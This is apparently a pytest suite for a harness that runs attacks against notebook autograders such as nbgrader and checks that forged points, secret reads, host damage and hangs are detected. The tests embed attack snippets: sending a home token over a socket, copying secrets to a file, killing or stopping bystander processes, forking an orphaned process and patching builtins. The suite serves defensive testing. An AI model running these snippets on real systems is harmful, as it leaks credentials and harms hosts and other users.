"""The harness sees what goes wrong in a weak grader, and sees nothing where nothing goes wrong."""

from __future__ import annotations

import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import psutil
import pytest
from attacks.corpus import FOLDER, SECRETS, Attack, read_attack, read_corpus
from attacks.graders import STOCK, USTOD, Grader
from attacks.naive import NAIVE
from attacks.runner import Result, run_attack
from attacks.victim import FULL_MARKS, build_victim
from shared import Once

Try = Callable[..., Result]


@pytest.fixture(scope="session")
def victim(once: Once) -> Path:
    """The victim, built once; only to be copied."""
    return once("victim", build_victim)


@pytest.fixture
def attempt(victim: Path, tmp_path: Path) -> Try:
    """Run an attack given as text against the naive grader."""

    def run(text: str, grader: Grader = NAIVE, patience: float = 120, harmless: bool = True) -> Result:
        path = tmp_path / "mine.py"
        path.write_text(f'"""Tries."""\n\nprize = "points"\nharmless = {harmless}\n\n{text}')
        return run_attack(read_attack(path), grader, victim, patience)

    return run


def corpus_attack(name: str) -> Attack:
    return read_attack(FOLDER / f"{name}.py")


class TestNothingIsSeenWhereNothingIsDone:
    def test_an_empty_submission_gains_nothing_and_honest_work_gets_full_marks(self, attempt: Try) -> None:
        assert attempt("# %% last\npass\n") == Result(0, frozenset(), (), False, FULL_MARKS)

    @pytest.mark.parametrize(
        "grader",
        [NAIVE, pytest.param(STOCK, marks=pytest.mark.slow), pytest.param(USTOD, marks=pytest.mark.slow)],
        ids=lambda grader: grader.name,
    )
    def test_wrong_answers_gain_nothing(self, attempt: Try, grader: Grader) -> None:
        answers = "# %% answers\ntotal = over = mean = spread = lambda *args: None\ndepth = None\n"
        assert attempt(answers, grader) == Result(0, frozenset(), (), False, FULL_MARKS)


class TestForgedPoints:
    @pytest.mark.parametrize(
        ("name", "points"), [("crossing/always_equal", 6), ("forge/grade", 6), ("crossing/changing", 3)]
    )
    def test_they_are_counted(self, victim: Path, name: str, points: float) -> None:
        result = run_attack(corpus_attack(name), NAIVE, victim)
        assert result.points_forged == points
        assert result.contained and not result.failed


class TestSecrets:
    def test_every_one_that_the_student_is_shown_is_found(self, attempt: Try) -> None:
        names = ("source_folder", "gradebook_file", "classmate_submitted", "home", "environment", "loopback_abstract")
        sources = [source for name in names for place, source in corpus_attack(f"read/{name}").cells()]
        assert attempt("# %% last\n" + "\n".join(sources)).secrets_read == set(SECRETS)

    def test_hidden_checks_alone_are_found(self, victim: Path) -> None:
        assert run_attack(corpus_attack("read/hidden_frames"), NAIVE, victim).secrets_read == {"hidden checks"}

    def test_one_that_is_sent_away_by_the_loopback_is_found(self, attempt: Try) -> None:
        result = attempt(
            "# %% last\nimport socket\n"
            "with socket.create_connection(('127.0.0.1', @PORT@)) as service:\n"
            "    service.sendall(open('@HOME@/.token', 'rb').read())\n"
        )
        assert result.secrets_read == {"home"}

    def test_one_in_a_file_beside_the_graded_notebook_is_found(self, attempt: Try) -> None:
        result = attempt("# %% last\nopen('mine', 'w').write(open('@HOME@/.token').read())\n")
        assert result.secrets_read == {"home"} and result.contained

    def test_the_work_of_another_handed_in_as_ones_own_is_found(self, victim: Path) -> None:
        result = run_attack(corpus_attack("notebook/linked_notebook"), NAIVE, victim)
        assert result.secrets_read == {"classmate"}


class TestTheHost:
    def test_everything_that_is_touched_is_named(self, attempt: Try) -> None:
        names = ("writes_outside", "writes_home", "course_configuration", "gradebook_of_others", "kill_bystander")
        sources = [source for name in names for place, source in corpus_attack(f"harm/{name}").cells()]
        result = attempt("# %% last\n" + "\n".join(sources) + '\nprint("@CONFESSION@")\n')
        assert set(result.host_touched) == {
            "drop/was-here was made or lost",
            "home/notes.txt was changed",
            "course/nbgrader_config.py was changed",
            "the gradebook's records of others were changed",
            "a bystander was killed",
            "the attack held something of the machine",
        }
        assert not result.contained

    @pytest.mark.parametrize(
        ("act", "what"),
        [
            ("os.setpriority(os.PRIO_PROCESS, @CANARY@, 19)", "a bystander's priority was changed"),
            ("os.kill(@CANARY@, 19)", "a bystander was stopped"),
        ],
    )
    def test_what_a_bystander_suffers_is_named(self, attempt: Try, act: str, what: str) -> None:
        assert attempt(f"# %% last\nimport os\n{act}\n").host_touched == (what,)

    def test_a_process_left_behind_is_named_and_ended(self, attempt: Try, tmp_path: Path) -> None:
        """Even one that has left its parents and its session."""
        result = attempt(
            "# %% last\nimport os, time\n"
            "if os.fork() == 0:\n    os.setsid()\n"
            "    if os.fork() == 0:\n"
            f"        open({str(tmp_path / 'pid')!r}, 'w').write(str(os.getpid()))\n        time.sleep(300)\n"
            "    os._exit(0)\n"
        )
        assert any(what.startswith("a process was left running") for what in result.host_touched)
        assert not psutil.pid_exists(int((tmp_path / "pid").read_text()))

    def test_a_next_submission_that_is_spoiled_is_noticed(self, attempt: Try) -> None:
        result = attempt("# %% last\nimport builtins\nbuiltins.max = builtins.min\n")
        assert result.honest_score < FULL_MARKS and not result.contained


class TestAHang:
    def test_it_is_noticed_and_ended(self, victim: Path) -> None:
        before = {child.pid for child in psutil.Process().children(recursive=True)}
        result = run_attack(corpus_attack("harm/deaf_loop"), NAIVE, victim, patience=6)
        assert result.hung and not result.contained
        assert {child.pid for child in psutil.Process().children(recursive=True)} <= before

    def test_a_grader_that_dies_is_no_hang_but_fails_the_next_student(self, attempt: Try) -> None:
        result = attempt("# %% last\nimport os\nos._exit(0)\n")
        assert not result.hung and result.honest_score == 0 and not result.contained


def test_what_is_not_harmless_does_not_run_without_a_sandbox(attempt: Try) -> None:
    with pytest.raises(ValueError, match="may only run in a sandbox, naive has none"):
        attempt("# %% last\npass\n", harmless=False)


@pytest.mark.slow
def test_stock_nbgrader_gives_the_points_away(victim: Path) -> None:
    """What the corpus is for: these win against the grader that everybody uses."""
    for name in ("forge/run_code", "notebook/skip_tag"):
        assert run_attack(corpus_attack(name), STOCK, victim).points_forged == FULL_MARKS, name


def test_the_list_of_attacks_is_printed() -> None:
    tests = Path(__file__).parents[1]
    done = subprocess.run(
        [sys.executable, "-m", "attacks", "--list"], cwd=tests, capture_output=True, text=True, check=True
    )
    assert len(done.stdout.splitlines()) == len(read_corpus())
